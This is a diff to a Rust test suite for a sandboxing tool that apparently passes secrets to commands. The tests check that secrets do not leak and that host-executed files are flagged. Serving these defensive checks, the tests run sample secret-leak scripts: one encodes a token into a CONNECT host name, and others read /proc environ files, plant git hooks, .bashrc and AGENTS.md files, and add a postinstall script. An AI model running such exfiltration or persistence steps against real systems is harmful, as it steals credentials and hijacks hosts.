@@ -1,4 +1,4 @@
-//! Secrets: how a command gets them, that nothing else does, and what its changes would execute on the host.
+//! Secrets: how a command gets them, that nothing else does, and changed paths that the host would execute.
 
 use std::path::Path;
 use std::process::Command;
@@ -10,10 +10,10 @@ use crate::shared::Shared;
 
 const VALUE: &str = "hunter2-correct+horse/battery";
 const KEY: &str = "-----BEGIN-----\nline one of it\nline two of it\n-----END-----\n";
-/// Waits inside for the test to have done something outside.
+/// Waits inside the sandbox until the test creates `go`.
 const MEET: &str = ": > $S/ready; while [ ! -e $S/go ]; do sleep 0.02; done";
 
-/// With a variable TOKEN and a file of the host.
+/// A project, and a secret in the file `key.pem` on the host.
 fn with_secrets() -> TestEnv {
     let env = TestEnv::with_project();
     std::fs::write(env.at("key.pem"), KEY).unwrap();
@@ -37,7 +37,7 @@ fn key(env: &TestEnv) -> String {
     format!("KEY={}", env.at("key.pem").display())
 }
 
-/// The values, and what people and programs write for them.
+/// The values, and the encodings in which people and programs write them.
 fn forms() -> Vec<Vec<u8>> {
     let program = "import base64, json, sys, urllib.parse as u
 for value in sys.argv[1:]:
@@ -56,11 +56,11 @@ for value in sys.argv[1:]:
 fn assert_not_in(forms: &[Vec<u8>], bytes: &[u8], what: &str) {
     for form in forms {
         let found = bytes.windows(form.len()).any(|window| window == form.as_slice());
-        assert!(!found, "{what} holds {:?}", String::from_utf8_lossy(form));
+        assert!(!found, "{what} contains {:?}", String::from_utf8_lossy(form));
     }
 }
 
-/// Fails if a value is in a file, its name or the target of a link, anywhere beneath a directory.
+/// Fails if a value is in the content or the name of a file, or in the target of a symlink, anywhere in a directory.
 #[track_caller]
 fn assert_not_beneath(forms: &[Vec<u8>], dir: &Path) {
     for entry in std::fs::read_dir(dir).unwrap() {
@@ -85,7 +85,7 @@ fn left_out(envelope: &Value) -> Vec<(String, String)> {
 }
 
 #[test]
-fn a_secret_is_a_file_that_nobody_can_change() {
+fn a_secret_is_a_read_only_file() {
     let env = with_secrets();
     let key = key(&env);
     let line = "cat $TOKEN_FILE; echo; cat $KEY_FILE; echo $TOKEN_FILE $KEY_FILE ${TOKEN-unset}; \
@@ -112,14 +112,14 @@ fn a_secret_is_a_file_that_nobody_can_change() {
         let options = [options, &["--quiet", "--secret", "TOKEN=file", "--secret", &key]].concat();
         let answer = run(&env, &options, line);
         if options.contains(&"--ro") {
-            // There is no place for them in what the host has and nobody may change.
+            // A read-only directory of the host has no place for them.
             let answer = answer.expect(121);
             assert!(answer.stderr.contains("cannot write the secrets to /run/secrets"), "{answer:?}");
             continue;
         }
         assert_eq!(answer.expect(0).text(), told, "{options:?}");
     }
-    // One that is not set is a mistake.
+    // An unset secret is an error.
     for secret in ["NONE", "NONE=file"] {
         let none = env.shell(&["--json", "--secret", secret], "true").expect(125).envelope();
         assert_eq!(none["error"]["code"], json!("secret.unset"), "{none}");
@@ -127,18 +127,18 @@ fn a_secret_is_a_file_that_nobody_can_change() {
 }
 
 #[test]
-fn no_other_process_has_the_value() {
+fn no_other_process_sees_the_value() {
     let env = with_secrets();
     let line = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cFf $TOKEN_FILE; \
                 cat /proc/1/environ 2>&1 | grep -c denied";
     assert_eq!(run(&env, &["--quiet", "--secret", "TOKEN=file"], line).text(), "0\n1\n");
-    // The control: as a variable the command itself has it.
+    // Control: as a variable it is in the environment of the command.
     let control = "tr '\\0' '\\n' < /proc/$$/environ | grep -c ^TOKEN=";
     assert_eq!(run(&env, &["--quiet", "--secret", "TOKEN"], control).text(), "1\n");
 }
 
 #[test]
-fn a_file_may_be_a_pipe_and_is_asked_for_in_json_too() {
+fn a_secret_file_can_be_a_pipe_and_can_be_given_in_a_json_request() {
     let env = with_secrets();
     let words = ["-q", "--secret", "PIPED=/dev/stdin", "--shell", "cat $PIPED_FILE"];
     assert_eq!(env.fed(&words, b"from a pipe").expect(0).text(), "from a pipe");
@@ -151,7 +151,7 @@ fn a_file_may_be_a_pipe_and_is_asked_for_in_json_too() {
 }
 
 #[test]
-fn what_is_no_secret_is_refused_without_telling_it() {
+fn invalid_secrets_are_refused_without_revealing_them() {
     let env = with_secrets();
     let large = env.at("large");
     std::fs::write(&large, vec![b'x'; (1 << 20) + 1]).unwrap();
@@ -172,7 +172,7 @@ fn what_is_no_secret_is_refused_without_telling_it() {
 }
 
 #[test]
-fn a_file_of_the_host_is_handed_over_by_its_path() {
+fn caps_match_a_secret_file_by_its_path() {
     let env = with_secrets();
     env.policy("[caps]\nsecrets = ['KEY', 'TOKEN']\n");
     let key = key(&env);
@@ -188,7 +188,7 @@ fn a_file_of_the_host_is_handed_over_by_its_path() {
     assert_eq!(asked["decision"]["rule"], json!("profile.agent.secrets"));
 }
 
-/// Prints and writes the values in every way that is looked for.
+/// Prints and writes the values in every encoding that is searched for.
 const LEAK: &str = r#"
     python3 - <<'END'
 import base64, json, os, urllib.parse
@@ -210,7 +210,7 @@ END
     echo "$TOKEN" >&2; cat $KEY_FILE >&2; printf '%s' "$TOKEN" | base64 >&2"#;
 
 #[test]
-fn a_value_is_kept_nowhere() {
+fn a_secret_value_is_stored_nowhere() {
     let forms = forms();
     for options in [
         &["--scratch", "memory"][..],
@@ -234,7 +234,7 @@ fn a_value_is_kept_nowhere() {
             left.contains(&(path.to_owned(), format!("holds the value of the secret {name}")))
         };
         assert!(told("leaks/0-0", "TOKEN") && told("leaks/1-0", "KEY") && told("README.md", "TOKEN"));
-        // What it made besides is kept, and what was there is as it was.
+        // Other new files are kept, and existing files are unchanged.
         assert_eq!(env.cat(&run_ref, "kept"), "kept");
         assert_eq!(env.cat(&run_ref, "README.md"), "hello\n");
         let seen =
@@ -261,7 +261,7 @@ fn a_value_is_kept_nowhere() {
         assert_not_beneath(&forms, &env.at("cache"));
         env.assert_sound();
     }
-    // The control: all of this finds it where files may hold it.
+    // Control: the same search finds the values if files may contain them.
     let env = with_secrets();
     let key = key(&env);
     let options = ["--json", "--allow-secret-files", "--fork", "f", "--secret", "TOKEN", "--secret", &key];
@@ -280,7 +280,7 @@ fn a_value_is_kept_nowhere() {
 }
 
 #[test]
-fn what_is_left_out_is_told_and_not_applied() {
+fn files_that_contain_secrets_are_reported_and_not_applied() {
     let env = with_secrets();
     let before = std::fs::read(env.project().join("README.md")).unwrap();
     let words = [
@@ -298,7 +298,7 @@ fn what_is_left_out_is_told_and_not_applied() {
     }
     assert!(env.project().join("x").exists() && !env.project().join("leaked").exists());
     assert_eq!(std::fs::read(env.project().join("README.md")).unwrap(), before);
-    // A value that is too short would be everywhere: that is said.
+    // A value that is too short would match everywhere, so a note reports it.
     let short = env
         .command(&["--secret", "TOKEN", "--shell", "echo $TOKEN > s"])
         .env("TOKEN", "abc")
@@ -309,7 +309,7 @@ fn what_is_left_out_is_told_and_not_applied() {
 }
 
 #[test]
-fn a_recovery_wants_to_know_the_values() {
+fn a_recovery_needs_the_values_of_the_secrets() {
     for options in [&["--scratch", "memory"][..], &["--scratch", "disk"], &["--backend", "copy"]] {
         let env = with_secrets();
         let shared = Shared::new(&env);
@@ -340,7 +340,7 @@ fn a_recovery_wants_to_know_the_values() {
         {
             assert!(refused.stderr.contains(&way), "{refused:?}");
         }
-        // Half of them is not enough, and the next run does not finish it by itself.
+        // A part of the values is not enough, and the next run does not complete the capture automatically.
         let recover = |words: &[&str], token: &str, key: &str| {
             let mut command = env.clean(&crate::env::avfs());
             command.args(words).env("TOKEN", token).env("KEY", key);
@@ -358,7 +358,7 @@ fn a_recovery_wants_to_know_the_values() {
         let forms = forms();
         assert_not_beneath(&forms, &env.project());
         assert_not_beneath(&forms, &env.at("cache"));
-        // Or all of it is kept, by somebody's word.
+        // With an explicit option everything is kept.
         let id = fail();
         env.avfs(&["recover", "--allow-secret-files", &id]).expect(0);
         assert_eq!(env.cat(&format!("run:{id}"), "leaked").trim(), VALUE);
@@ -367,14 +367,14 @@ fn a_recovery_wants_to_know_the_values() {
 }
 
 #[test]
-fn credentials_in_a_command_are_not_written_down() {
+fn credentials_in_a_command_are_redacted_in_records() {
     let env = with_secrets();
     std::fs::remove_file(env.at("config/avfs/policy.toml")).unwrap();
-    // Taken apart, so that nobody who searches sources for tokens finds one.
+    // Split, so that scanners for tokens in source code do not report it.
     let token = format!("ghp{}{}", "_", "a1B2".repeat(9));
     let line = format!("echo {token} | tr a-z A-Z; echo x > x; : https://u:hunter2@example.org/");
     let ran = env.json(&["--fork", "f"], &line);
-    // What runs is what was asked for.
+    // The command itself is executed unchanged.
     assert_eq!(ran["result"]["stdout"], json!(format!("{}\n", token.to_uppercase())));
     let id = ran["run_id"].as_str().unwrap().to_owned();
     let shown = env.avfs_result(&["runs", "show", &id]);
@@ -382,7 +382,7 @@ fn credentials_in_a_command_are_not_written_down() {
     assert_eq!(shown["request"]["command"], json!(stored));
     env.shell(&["--json", "--", &token], "true");
     env.run(&["--json", "--", &token, "--header", "Authorization: Bearer hunter2"]);
-    // One that waits for an approval is shown without it, and approved for what it is.
+    // A command that waits for approval is shown redacted, and the approval covers the original.
     let curl = format!("curl -u x:{token} http://0.0.0.0:9/; echo did");
     let asked = env.shell(&["--json"], &curl).expect(120).envelope();
     let approval = asked["decision"]["approval_id"].as_str().unwrap().to_owned();
@@ -406,7 +406,7 @@ fn credentials_in_a_command_are_not_written_down() {
 }
 
 #[test]
-fn a_value_in_a_command_is_not_written_down() {
+fn a_secret_value_in_a_command_is_not_stored() {
     let env = with_secrets();
     let line = format!("echo '{VALUE}' > /dev/null; echo x > x");
     let answer = run(&env, &["--json", "--fork", "f", "--secret", "TOKEN"], &line).expect(0);
@@ -423,7 +423,7 @@ fn a_value_in_a_command_is_not_written_down() {
 }
 
 #[test]
-fn what_the_host_would_execute_is_called_out() {
+fn paths_that_the_host_would_execute_are_reported() {
     let env = TestEnv::with_project();
     env.put(".git/config", b"[core]\n");
     let line = "mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; echo y >> .git/config; echo z > .bashrc; echo n > n";
@@ -448,7 +448,7 @@ fn what_the_host_would_execute_is_called_out() {
     assert_eq!(paths(&without["runs_on_host"]), [".bashrc"]);
     let applied = env.avfs(&["apply", &run]).expect(0);
     assert!(applied.stderr.contains(".git/hooks/pre-commit (a git hook)"), "{applied:?}");
-    // Instructions are told apart, and so is a link to where an agent looks.
+    // Files with instructions are distinguished, and so is a symlink at a path that agents read.
     let envelope = env.json(&[], "echo obey > AGENTS.md; mkdir shared; ln -s shared .claude");
     let told = |envelope: &Value| -> Vec<String> {
         let all = envelope["result"]["runs_on_host"].as_array().unwrap().iter();
@@ -459,14 +459,14 @@ fn what_the_host_would_execute_is_called_out() {
     let human = env.shell(&[], "echo obey > AGENTS.md").expect(0);
     let line = "read by agents on the host once applied: AGENTS.md (instructions that agents follow)";
     assert!(human.stderr.contains(line), "{human:?}");
-    // What only takes away, or changes nothing of this kind, is no matter.
+    // Deletions and unrelated changes are not reported.
     let quiet = env.shell(&[], "rm -r .git .bashrc; echo m > n").expect(0);
     assert!(!quiet.stderr.contains("executed on the host"), "{quiet:?}");
 }
 
-/// The version a run began from has the links already: the paths that change say nothing of them.
+/// The base already contains the symlinks, so the changed paths do not show them.
 #[test]
-fn changes_behind_an_older_link_are_called_out() {
+fn changes_behind_an_existing_symlink_are_reported() {
     let env = TestEnv::with_project();
     let line = "mkdir -p tools/hooks && echo x > tools/hooks/pre-commit && echo y > tools/other";
     let told = |envelope: &Value| -> Vec<(String, String, String)> {
@@ -474,7 +474,7 @@ fn changes_behind_an_older_link_are_called_out() {
         let text = |one: &Value| one.as_str().unwrap().to_owned();
         all.map(|one| (text(&one["path"]), text(&one["why"]), text(&one["link"]["path"]))).collect()
     };
-    // Control: without a link nobody executes it.
+    // Control: without a symlink nothing executes it.
     assert_eq!(told(&env.json(&[], line)["result"]), []);
     env.put(".git/HEAD", b"ref: refs/heads/main\n");
     std::os::unix::fs::symlink("../tools/hooks", env.project().join(".git/hooks")).unwrap();
@@ -488,9 +488,9 @@ fn changes_behind_an_older_link_are_called_out() {
     assert!(human.stderr.contains(text), "{human:?}");
 }
 
-/// Of a package only what an installation runs by itself counts, and only where it is new.
+/// Of a package only scripts that an installation runs automatically count, and only if they are new.
 #[test]
-fn a_changed_install_script_is_called_out() {
+fn a_changed_install_script_is_reported() {
     let env = TestEnv::with_project();
     let package = |scripts: &str| format!(r#"{{"name": "x", "scripts": {{{scripts}}}}}"#);
     env.put("package.json", package(r#""postinstall": "node ok.js", "test": "a""#).as_bytes());
@@ -505,7 +505,7 @@ fn a_changed_install_script_is_called_out() {
     assert_eq!(called_out(&package(r#""test": "b""#)), [""; 0]);
     assert_eq!(called_out(&package(r#""postinstall": "node evil.js", "test": "a""#)), script);
     assert_eq!(called_out(&package(r#""postinstall": "node ok.js", "prepare": "x""#)), script);
-    // npm reads these; they are no way to hide a script.
+    // npm accepts these, so they must not hide a script.
     assert_eq!(called_out(&format!("\\0357\\0273\\0277{}", package(r#""install": "x""#))), script);
     assert_eq!(called_out(&package(r#""install": "x\\0377""#)), script);
     let moved = env.json(&[], "mkdir sub; mv package.json sub");
@@ -513,7 +513,7 @@ fn a_changed_install_script_is_called_out() {
 }
 
 #[test]
-fn a_name_that_carries_a_value_out_is_not_written_down() {
+fn a_host_name_that_contains_a_secret_is_not_recorded() {
     let env = TestEnv::with_project();
     let ask = "import os, socket\ns = socket.create_connection(('127.0.0.1', 61080))\n\
                s.sendall(b'CONNECT %s.example.org:443 HTTP/1.1\\r\\n\\r\\n' % os.environb[b'TOKEN'])\ns.recv(4096)";
@@ -532,23 +532,23 @@ fn a_name_that_carries_a_value_out_is_not_written_down() {
 }
 
 #[test]
-fn an_error_does_not_tell_a_value() {
+fn an_error_does_not_reveal_a_secret_value() {
     let env = with_secrets();
     let failing = |options: &[&str]| {
         let words = [options, &["--secret", "TOKEN", "--", VALUE]].concat();
         env.answer(env.command(&words).env("TOKEN", VALUE)).expect(127)
     };
-    let told = failing(&["--json"]);
-    assert_eq!(told.envelope()["error"]["message"], json!("[secret] was not found"), "{told:?}");
+    let answer = failing(&["--json"]);
+    assert_eq!(answer.envelope()["error"]["message"], json!("[secret] was not found"), "{answer:?}");
     let human = failing(&[]);
     assert!(human.stderr.contains("error: [secret] was not found"), "{human:?}");
-    for text in [told.text(), told.stderr, human.stderr] {
+    for text in [answer.text(), answer.stderr, human.stderr] {
         assert!(!text.contains(VALUE), "{text}");
     }
 }
 
 #[test]
-fn a_file_that_held_the_value_before_may_be_moved() {
+fn a_file_that_already_contained_the_value_may_be_moved() {
     let env = with_secrets();
     env.put("conf.env", format!("TOKEN={VALUE}\n").as_bytes());
     env.put("dir/a.env", format!("A={VALUE}\n").as_bytes());
